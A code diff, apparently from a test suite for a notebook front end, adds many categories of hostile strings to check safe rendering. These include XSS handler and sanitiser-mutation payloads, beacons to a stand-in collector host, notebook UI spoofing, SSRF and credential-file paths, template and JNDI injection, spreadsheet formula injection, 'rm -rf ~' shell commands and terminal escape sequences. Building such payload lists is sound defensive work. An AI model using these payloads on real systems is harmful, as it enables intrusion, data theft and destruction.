@@ -159,11 +159,172 @@ _MARKDOWN = [
     "\u2028\u2029\ufeff\x7f\x9b31m",
 ]
 
-HOSTILE: tuple[str, ...] = (
-    *_ELEMENTS,
-    *(form.format(scheme) for form, scheme in product(_LINK_FORMS, _SCHEMES)),
-    *_MARKDOWN,
-)
+# What needs no element of its own to run: handlers, names and addresses inside allowed ones.
+_HANDLERS = [
+    f'<{tag} on{event}="{PWN}" style="display:block" tabindex=0>x</{tag}>'
+    for tag, event in [
+        ("div", "pointerenter"),
+        ("p", "mouseover"),
+        ("span", "click"),
+        ("a", "focus"),
+        ("td", "mousemove"),
+        ("pre", "copy"),
+        ("code", "wheel"),
+        ("h1", "contextmenu"),
+        ("li", "dragstart"),
+        ("blockquote", "beforecopy"),
+        ("details", "toggle"),
+        ("summary", "keydown"),
+    ]
+]
+
+# What a sanitiser may turn into something worse than it was.
+_MUTATIONS = [
+    f"<math><mi//xlink:href='data:x,<script>{PWN}</script>'>",
+    f"<svg></p><style><a id='</style><img src=1 onerror={PWN}>'>",
+    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={PWN}>",
+    f"<table><td><svg><desc><td><img src=x onerror={PWN}></td></desc></svg></table>",
+    f"<noembed><img title='</noembed><img src=x onerror={PWN}>'></noembed>",
+    f"<plaintext><img src=x onerror={PWN}>",
+    f"<frameset onload={PWN}><frame src=x></frameset>",
+    f"<select><iframe></select><img src=x onerror={PWN}>",
+    f"<svg><foreignObject><body><img src=x onerror={PWN}></body></foreignObject></svg>",
+    f"<svg><title><script>{PWN}</script></title></svg>",
+    f"<math><annotation-xml encoding='text/html'><img src=x onerror={PWN}></annotation-xml>",
+    f"<p><a title='<img src=x onerror={PWN}>'>x</a>",
+    f"<a><p><a><p><img src=x onerror={PWN}></a>",
+    f"<details/open/ontoggle={PWN}>",
+    f"<img src=`x`onerror={PWN}>",
+    "<img src=x onerror=&#x28;window.__pwn=window.__pwn||[]&#x29;.push&#x28;1&#x29;>",
+    f"<img src=x onerror=\n\n{PWN}\n\n>",
+    f"<x onclick={PWN} style=position:fixed;inset:0>x</x>",
+    f"<custom-element><slot><img src=x onerror={PWN}></slot></custom-element>",
+    f"<dialog open><img src=x onerror={PWN}></dialog>",
+    f"<object type=text/html data='data:text/html,<script>{_FROM_FRAME}</script>'></object>",
+    f"<embed src='data:text/html,<script>{_FROM_FRAME}</script>'>",
+    f"<isindex type=image src=1 onerror={PWN}>",
+    f"<keygen autofocus onfocus={PWN}>",
+    f"<portal src={COLLECTOR}/portal onload={PWN}></portal>",
+]
+
+# What asks for something without a picture.
+_FETCHES = [
+    f"<link rel=preload as=image href={COLLECTOR}/preload>",
+    f"<link rel=modulepreload href={COLLECTOR}/module.js>",
+    f"<link rel=icon href={COLLECTOR}/icon>",
+    f"<link rel=preconnect href={COLLECTOR}>",
+    f"<link rel=manifest href={COLLECTOR}/manifest>",
+    f"<script type=module>import '{COLLECTOR}/module.js'</script>",
+    f'<script type="speculationrules">{{"prefetch":[{{"urls":["{COLLECTOR}/guess"]}}]}}</script>',
+    f"<style>@font-face{{font-family:x;src:url({COLLECTOR}/font)}}*{{font-family:x}}</style>",
+    f"<style>li{{list-style-image:url({COLLECTOR}/list)}}</style>",
+    f"<style>p::before{{content:url({COLLECTOR}/content)}}</style>",
+    f"<style>body{{cursor:url({COLLECTOR}/cursor),auto}}</style>",
+    f"<svg><image href={COLLECTOR}/svg-image></image></svg>",
+    f"<svg><use href={COLLECTOR}/use.svg#x></use></svg>",
+    f"<svg><filter><feImage href={COLLECTOR}/filter /></filter></svg>",
+    f"<input type=image src={COLLECTOR}/input>",
+    f"<audio autoplay src={COLLECTOR}/audio></audio>",
+    f"<video autoplay><track default src={COLLECTOR}/track></video>",
+    f"<iframe srcdoc='<img src={COLLECTOR}/srcdoc>'></iframe>",
+    f"<img loading=eager crossorigin src={COLLECTOR}/eager>",
+    f"<div style='background-image:image-set(url({COLLECTOR}/set) 1x)'>x</div>",
+    f"<div style='border-image:url({COLLECTOR}/border)'>x</div>",
+    f"<applet code={COLLECTOR}/applet></applet>",
+    f"<body background={COLLECTOR}/body>",
+    f"<q cite={COLLECTOR}/cite>x</q><blockquote cite={COLLECTOR}/quote>x</blockquote>",
+]
+
+# What speaks to the notebook itself rather than to the page.
+_NOTEBOOK = [
+    '<a data-commandlinker-command="kernelmenu:restart" data-commandlinker-args="{}">x</a>',
+    '<div class="jp-Cell jp-CodeCell" data-jp-suppress-context-menu="true">In [1]:</div>',
+    '<div class="jp-Dialog" style="inset:0">Enter your token <input></div>',
+    '<div id="jp-main-content-panel" class="lm-Widget">x</div>',
+    '<script type="application/vnd.jupyter.widget-view+json">{"model_id":"x"}</script>',
+    '<script type="application/vnd.jupyter.widget-state+json">{"state":{}}</script>',
+    '<div class="MathJax" data-mathml="<img src=x onerror=' + PWN + '>">x</div>',
+    '<div class="jp-RenderedJavaScript"><script>element.append(1)</script></div>',
+    '<a href="#" data-address="user_code">x</a>',
+    "<style>.jp-Toolbar{display:none}.jp-OutputArea{opacity:0}</style>",
+    '<span class="jp-ContentFactory" style="visibility:hidden;position:absolute">x</span>',
+    '<a target="_top" href="/lab?reset">reload</a>',
+    "$$\\require{action}\\toggle{a}{b}\\endtoggle$$",
+    f"$$\\href{{{COLLECTOR}/tex}}{{x}}$$",
+    f"$\\style{{background:url({COLLECTOR}/tex-style)}}{{x}}$",
+    f"$$\\includegraphics{{{COLLECTOR}/tex-image}}$$",
+    "$" * 999,
+    "\\def\\x{\\x\\x}$\\x$",
+]
+
+# What reads as a place on this machine or in its network; a front end or a library may fetch it.
+_PLACES = [
+    "http://169.254.169.254/latest/meta-data/",
+    "http://[::1]:8888/api/contents",
+    "https://localhost/",
+    "file:///proc/self/environ",
+    "\\\\collector.invalid\\share\\x.png",
+    "/proc/self/environ",
+    "~/.netrc",
+    "./.env",
+    "../../../../etc/shadow",
+    "/dev/zero",
+    "/dev/stdin",
+    "http://127.0.0.1:8888/x.svg",
+    f"{COLLECTOR}/answer.md",
+    f"{COLLECTOR}/picture.png",
+    "data:text/markdown,![x](" + COLLECTOR + "/data)",
+]
+
+# What a template, a spreadsheet, a shell or a terminal would obey.
+_OTHERS = [
+    "{{df.__class__.__init__.__globals__}}",
+    "{x!r:>1000000000}",
+    "${jndi:ldap://collector.invalid/x}",
+    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
+    "<%= 7*7 %>",
+    "#{7*7}",
+    "{__import__('os').system('id')}",
+    "%nebius purge --all",
+    "!rm -rf ~",
+    "%%bash\nrm -rf ~",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '\t=HYPERLINK("http://collector.invalid")',
+    "\r=1+1",
+    "'; DROP TABLE answers; --",
+    "\x1b]0;new title\x07",
+    "\x1b]1337;File=inline=1:AAAA\x07",
+    "\x1bP+q544e\x1b\\",
+    "\x1b[?1049h\x1b[31mred",
+    "\x1b_Gf=100;AAAA\x1b\\",
+    "\x9d8;;http://collector.invalid\x9c",
+    "\x08\x08\x08over",
+    "first\rsecond",
+    "a" + "\u0301" * 200,
+    "\U000e0001\U000e0041hidden tag",
+    "\u200b\u200c\u200d\u2060",
+    "\ufdfd" * 50,
+    "%00%0a%0d",
+    "CON.txt",
+    "..\\..\\evil.bat",
+    "x" * 600 + ".png",
+    "name\nContent-Type: text/html\n\n<script>",
+]
+
+KINDS: dict[str, tuple[str, ...]] = {
+    "elements": tuple(_ELEMENTS),
+    "handlers": tuple(_HANDLERS),
+    "mutations": tuple(_MUTATIONS),
+    "fetches": tuple(_FETCHES),
+    "links": tuple(form.format(scheme) for form, scheme in product(_LINK_FORMS, _SCHEMES)),
+    "Markdown": tuple(_MARKDOWN),
+    "the notebook": tuple(_NOTEBOOK),
+    "places": tuple(_PLACES),
+    "other interpreters": tuple(_OTHERS),
+}
+HOSTILE: tuple[str, ...] = tuple(dict.fromkeys(text for kind in KINDS.values() for text in kind))
 
 # What a front end does obey when it is shown raw: proof that a test would notice.
 CONTROL = f"<img src=x onerror='{PWN}'><img src={COLLECTOR}/control>"
